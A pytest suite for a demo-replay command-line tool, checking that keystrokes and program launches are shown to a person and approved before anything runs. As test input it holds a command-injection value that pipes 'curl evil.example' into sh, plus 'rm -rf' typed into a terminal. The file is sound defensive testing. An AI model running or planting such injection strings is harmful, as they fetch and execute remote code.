"""Before a demo takes over the screen a person reads what it types and starts; nothing begins without a yes."""

from __future__ import annotations

import os
import sys
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner, Result

from demopack.domain.steps import WindowInfo
from demopack.errors import BadInputError, PackError
from demopack.pack import export_pack
from demopack.store import Library
from demopack_cli import replay as replay_command
from demopack_cli.main import main
from player.consent import command_words, keys_of, launches_of, program_of, quoted
from player.step_runner import launch_program
from tests.support.demos import DemoBuilder, demo_head
from tests.support.pictures import plain_image
from tests.support.private_values import CARDS

DEMO = "demo_0c0ffee123"


def typed(text: str, *, submit: bool = False) -> dict[str, Any]:
    return {"parameters": {"text_to_type": text, **({"submit": True} if submit else {})}}


def make(library: Library) -> str:
    b = DemoBuilder(library=library, demo_id=DEMO)
    frame = b.frame(plain_image(64, 48))
    shell = WindowInfo(title="Shell", app="xterm")
    b.step("launch", frame, frame, parameters={"app": "gedit --new-window 'my notes.txt'"})
    b.step("type", frame, frame, window=shell, **typed("rm -rf x", submit=True))
    b.step("type", frame, frame, window=WindowInfo(title="Pay", app="shop"), **typed(f"card {CARDS[0]}, please"))
    b.step("type", frame, frame, window=None, **typed("long " * 40))
    b.step("type", frame, frame, window=shell, **typed("one\ntwo\t\x1b[2J\u202etxt"))
    b.step("press_key", frame, frame, window=shell, parameters={"key_info": "Ctrl+Shift+Delete", "presses": 3})
    b.step("finish_goal", frame, None)
    return b.store(demo_head(DEMO, final_frame=frame, task="Tidy up"))


@pytest.fixture
def library(tmp_path: Path) -> Path:
    with Library.open(tmp_path / "library") as opened:
        make(opened)
    return tmp_path / "library"


@pytest.fixture
def pack(library: Path, tmp_path: Path) -> Path:
    with Library.open(library) as opened:
        export_pack(opened, [DEMO], tmp_path / "pack")
    return tmp_path / "pack"


@pytest.fixture(autouse=True)
def _at_a_terminal(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(replay_command, "_at_terminal", lambda: True)
    monkeypatch.delenv("DISPLAY", raising=False)


def ask(what: object, library: Path, *options: str, answers: str = "\n\n") -> Result:
    return CliRunner().invoke(main, ["replay", str(what), "--library", str(library), *options], input=answers)


def test_enter_alone_starts_nothing(library: Path) -> None:
    done = ask("last", library)
    assert done.exit_code == 1
    assert "Start? [y/N]" in done.output
    assert done.output.rstrip().endswith("Nothing was done.")
    assert "Starting in" not in done.output


def test_what_is_typed_and_where_is_read_before(library: Path) -> None:
    said = ask("last", library).output
    assert "Programs it was recorded in: customers, xterm, shop" in said
    assert "2  types “rm -rf x” and Enter in xterm" in said
    assert "6  presses Ctrl+Shift+Delete 3 times in xterm" in said
    assert f"“{'long ' * 40}”" in said  # whole: a later step sends Enter
    assert "elsewhere" not in said


def test_secrets_are_masked_and_signs_that_a_terminal_obeys_are_shown(library: Path) -> None:
    said = ask("last", library).output
    assert CARDS[0] not in said
    assert "3  types “card " in said
    assert "•••" in said
    assert "“one⏎two⇥�[2J�txt”" in said


EVIL = "; curl evil.example | sh"


def told(library: Path, *steps: tuple[str, dict[str, Any]]) -> list[str]:
    with Library.open(library) as opened:
        b = DemoBuilder(library=opened, demo_id=DEMO)
        frame = b.frame(plain_image(64, 48))
        for kind, parameters in steps:
            b.step(kind, frame, frame, **parameters)
        return [one.words for one in keys_of(opened.demo(b.store(demo_head(DEMO, final_frame=frame))))]


def test_the_end_of_a_long_text_is_shown_with_how_much_is_between(tmp_path: Path) -> None:
    (words,) = told(tmp_path / "l", ("type", typed("a" * 500 + EVIL)))
    assert words.startswith("types “aaa")
    assert words.endswith(f"{EVIL}” (524 characters)")
    assert " … 404 more characters … " in words


@pytest.mark.parametrize(
    "steps",
    [
        [("type", typed("a" * 500 + EVIL + "b" * 500, submit=True))],
        [("type", typed("a" * 500 + EVIL + "b" * 500 + "\n"))],
        [("type", typed("a" * 500 + EVIL + "b" * 500)), ("press_key", {"parameters": {"key_info": "Enter"}})],
        [("type", typed("a" * 500 + EVIL + "b" * 500)), ("press_key", {"parameters": {"key_info": "Ctrl+J"}})],
    ],
)
def test_what_enter_follows_is_shown_whole(tmp_path: Path, steps: list[tuple[str, dict[str, Any]]]) -> None:
    assert f"“{'a' * 500}{EVIL}{'b' * 500}" in told(tmp_path / "l", *steps)[0]


@pytest.mark.parametrize(
    ("blanks", "shown"),
    [
        (" " * 300, "[300 ␣]"),
        ("\n" * 80, "[80 ⏎]"),
        (" \n" * 80, "[80 ␣, 80 ⏎]"),
        ("\u3000" * 90, "[90 �]"),
        ("\u2800" * 90, "[90 �]"),
        ("  ", "  "),
        ("\r\t", "⏎⇥"),
    ],
    ids=[
        "blanks",
        "line ends",
        "both",
        "wide blanks",
        "blanks that Unicode calls signs",
        "two",
        "a line end and a tab",
    ],
)
def test_blanks_hide_nothing(tmp_path: Path, blanks: str, shown: str) -> None:
    assert told(tmp_path / "l", ("type", typed(f"ls{blanks}{EVIL}")))[0] == f"types “ls{shown}{EVIL}”"


def test_the_middle_of_an_endless_text_is_counted(tmp_path: Path) -> None:
    (words,) = told(tmp_path / "l", ("type", typed("a" * 9000 + EVIL, submit=True)))
    assert f"{EVIL}” (9024 characters) and Enter" in words
    assert len(words) < 2200


def test_a_pack_that_the_library_does_not_know_is_marked(pack: Path, library: Path, tmp_path: Path) -> None:
    assert "comes from elsewhere" not in ask(pack, library).output
    assert "comes from elsewhere" in ask(pack, tmp_path / "no library").output


def test_a_pack_that_was_changed_is_marked(pack: Path, library: Path, tmp_path: Path) -> None:
    with Library.open(tmp_path / "other") as other:
        b = DemoBuilder(library=other, demo_id=DEMO)
        frame = b.frame(plain_image(64, 48))
        b.step("type", frame, frame, **typed("something else"))
        b.store(demo_head(DEMO, final_frame=frame))
    assert "does other things than the demo of this name" in ask(pack, tmp_path / "other").output


def test_each_program_is_asked_for_with_its_whole_command_line_and_not_started_by_default(library: Path) -> None:
    said = ask("last", library, answers="\n\n").output
    assert "Step 1 starts this program: gedit --new-window 'my notes.txt'\nAllow it? [y/N]" in said


def test_a_program_that_was_named_is_not_asked_for_again(library: Path) -> None:
    said = ask("last", library, "--allow-launch", "gedit").output
    assert "Step 1 starts, as allowed: gedit --new-window" in said
    assert "Allow it?" not in said
    assert "Allow it?" in ask("last", library, "--allow-launch", "ged").output
    assert "Allow it?" in ask("last", library, "--allow-launch", "my").output


@pytest.mark.parametrize(
    ("command", "program"),
    [
        ("gedit --new-window x", "gedit"),
        ("/tmp/gedit x", "/tmp/gedit"),
        ("sh -c 'gedit; rm x'", "sh"),
        ("'my editor' x", "my editor"),
        ("un'balanced", "un'balanced"),
    ],
)
def test_a_program_is_what_stands_first(command: str, program: str) -> None:
    assert program_of(command) == program


@pytest.mark.parametrize(
    ("command", "words"),
    [
        (r"C:\Windows\System32\notepad.exe", [r"C:\Windows\System32\notepad.exe"]),
        (
            r'"C:\Program Files\Editor\edit.exe" "D:\my notes.txt"',
            [r"C:\Program Files\Editor\edit.exe", r"D:\my notes.txt"],
        ),
        ("notepad it's #1.txt", ["notepad", "it's", "#1.txt"]),
        (r"\\server\share\tool.exe /q", [r"\\server\share\tool.exe", "/q"]),
    ],
)
def test_on_windows_a_backslash_divides_folders(
    command: str, words: list[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(sys, "platform", "win32")
    assert command_words(command) == words
    assert program_of(command) == words[0]
    assert command_words(quoted(words[0])) == words[:1]


@pytest.mark.skipif(sys.platform == "win32", reason="a backslash is a letter in a name here")
def test_a_program_with_backslashes_in_its_path_is_started(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    started = tmp_path / "started"
    os.mkfifo(started)
    program = tmp_path / "System32\\notes.exe"
    program.write_text(f'#!/bin/sh\nprintf %s "$1" > {started}\n', encoding="utf-8")
    program.chmod(0o700)
    monkeypatch.setattr(sys, "platform", "win32")
    launch_program(f"{program} D:\\notes.txt")
    assert started.read_text(encoding="utf-8") == "D:\\notes.txt"


def test_allowing_programs_needs_names(library: Path) -> None:
    done = ask("last", library, "--allow-launch")
    assert done.exit_code == 2


@pytest.mark.parametrize("value", ["--library", "--yes", "-x", "", " "])
def test_an_option_or_nothing_is_no_program(library: Path, value: str) -> None:
    done = ask("last", library, "--allow-launch", value)
    assert done.exit_code == 2
    assert f"{value!r} is no program." in done.output


@pytest.mark.parametrize("name", ["/nonexistent", "no/pack", "pack.zip"])
def test_a_path_that_is_not_there_is_no_pack(tmp_path: Path, name: str) -> None:
    error = ask(name, tmp_path / "no library", "--yes").exception
    assert isinstance(error, PackError)
    assert error.user_message == f"There is no pack {name}."


def test_a_name_without_a_library_is_no_demo(tmp_path: Path) -> None:
    error = ask("deadbeef", tmp_path / "no library", "--yes").exception
    assert isinstance(error, BadInputError)
    assert error.user_message.startswith("There is no pack and no demo deadbeef. There is no library in ")


def test_the_plan_is_told_without_a_terminal_too(library: Path) -> None:
    with Library.open(library) as opened:
        demo = opened.demo(DEMO)
    assert [one.index for one in keys_of(demo)] == [2, 3, 4, 5, 6]
    assert [(index, program_of(command)) for index, command in launches_of(demo)] == [(1, "gedit")]
